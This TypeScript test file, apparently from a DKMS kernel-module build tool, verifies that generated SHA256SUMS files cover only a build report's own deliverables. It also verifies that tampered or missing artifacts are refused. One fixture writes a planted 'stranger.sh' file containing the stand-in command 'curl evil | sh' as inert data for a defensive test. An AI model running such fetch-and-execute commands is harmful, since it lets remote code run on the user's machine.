import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { deliverablesOf, writeChecksums } from '../../src/packaging/checksums.js';
import type { BuildReport } from '../../src/report/report.js';
import { row, sampleReport } from '../fixtures/junit/sample-report.js';

const sha = (data: string) => createHash('sha256').update(data).digest('hex');

/** An out dir as a build leaves it, plus what others left there: a stranger's file and an earlier build's tarball. */
async function outDir(): Promise<{ dir: string; report: BuildReport }> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'kfarm-sums-'));
  const files: Record<string, string> = {
    'hello-1.0.0-kernel6.1.0-57-amd64-x86_64.dkms.tar.gz': 'per-kernel',
    'hello-1.0.0.dkms.tar.gz': 'full',
    'dkms-deb/hello-dkms_1.0.0_all.deb': 'a deb',
  };
  for (const [rel, data] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), data);
  }
  const artifact = (rel: string) => ({ path: rel, sha256: sha(files[rel] ?? ''), size: (files[rel] ?? '').length });
  const report: BuildReport = {
    ...sampleReport(),
    kernels: [row({ kernel: '6.1.0-57-amd64', verdict: 'built', tarball: artifact('hello-1.0.0-kernel6.1.0-57-amd64-x86_64.dkms.tar.gz') })],
    modules: undefined,
    fullTarball: artifact('hello-1.0.0.dkms.tar.gz'),
    packages: [{ format: 'dkms-deb', ...artifact('dkms-deb/hello-dkms_1.0.0_all.deb') }],
  };
  for (const f of ['report.json', 'junit.xml', 'report.html']) await writeFile(path.join(dir, f), f);
  await mkdir(path.join(dir, 'logs'));
  await writeFile(path.join(dir, 'logs', '6.1.0-57-amd64.log'), 'make output');
  // not this report's: a file someone put there, and the tarball of a kernel an earlier build selected
  await writeFile(path.join(dir, 'stranger.sh'), 'curl evil | sh');
  await writeFile(path.join(dir, 'hello-1.0.0-kernel6.1.0-56-amd64-x86_64.dkms.tar.gz'), 'stale');
  await mkdir(path.join(dir, 'kmod-rpm'));
  await writeFile(path.join(dir, 'kmod-rpm', 'old.rpm'), 'an earlier pack');
  return { dir, report };
}

describe('SHA256SUMS vouches for exactly the deliverables of this report', () => {
  it("lists the report's artifacts and its own files, never logs, strangers' files or stale tarballs", async () => {
    const { dir, report } = await outDir();
    await writeChecksums(dir, report);
    const listed = (await readFile(path.join(dir, 'SHA256SUMS'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => l.split('  ')[1]);
    expect(listed).toEqual([
      'dkms-deb/hello-dkms_1.0.0_all.deb',
      'hello-1.0.0-kernel6.1.0-57-amd64-x86_64.dkms.tar.gz',
      'hello-1.0.0.dkms.tar.gz',
      'junit.xml',
      'report.html',
      'report.json',
    ]);
    // and what it says holds, for the real tool
    const check = await execa('sha256sum', ['-c', '--strict', 'SHA256SUMS'], { cwd: dir, reject: false });
    expect(check.exitCode, check.stderr).toBe(0);
  });

  it("deliverablesOf is the report's list, each artifact once, with the sha256 the report gives", () => {
    const report: BuildReport = {
      ...sampleReport(),
      fullTarball: { path: 'a.tar.gz', sha256: 'd'.repeat(64), size: 1 },
      modules: [
        {
          name: 'a',
          version: '1',
          source: { dir: '/a', sha256: 'a'.repeat(64) },
          summary: { built: 1, excluded: 0, failed: 0 },
          fullTarball: { path: 'a.tar.gz', sha256: 'd'.repeat(64), size: 1 },
        },
      ],
    };
    expect(deliverablesOf(report)).toEqual([{ path: 'a.tar.gz', sha256: 'd'.repeat(64) }, { path: 'junit.xml' }, { path: 'report.html' }, { path: 'report.json' }]);
  });

  it('refuses to vouch for a deliverable that changed since the report was written', async () => {
    const { dir, report } = await outDir();
    await writeFile(path.join(dir, 'hello-1.0.0.dkms.tar.gz'), 'swapped');
    await expect(writeChecksums(dir, report)).rejects.toMatchObject({
      code: 'BAD_OPTION',
      message: expect.stringContaining('hello-1.0.0.dkms.tar.gz does not match the sha256 report.json gives'),
    });
  });

  it('refuses a deliverable that is missing', async () => {
    const { dir, report } = await outDir();
    report.packages = [{ format: 'dkms-deb', path: 'dkms-deb/gone.deb', sha256: 'e'.repeat(64), size: 1 }];
    await expect(writeChecksums(dir, report)).rejects.toMatchObject({
      code: 'BAD_OPTION',
      message: expect.stringContaining('dkms-deb/gone.deb, which report.json lists, is missing'),
    });
  });
});
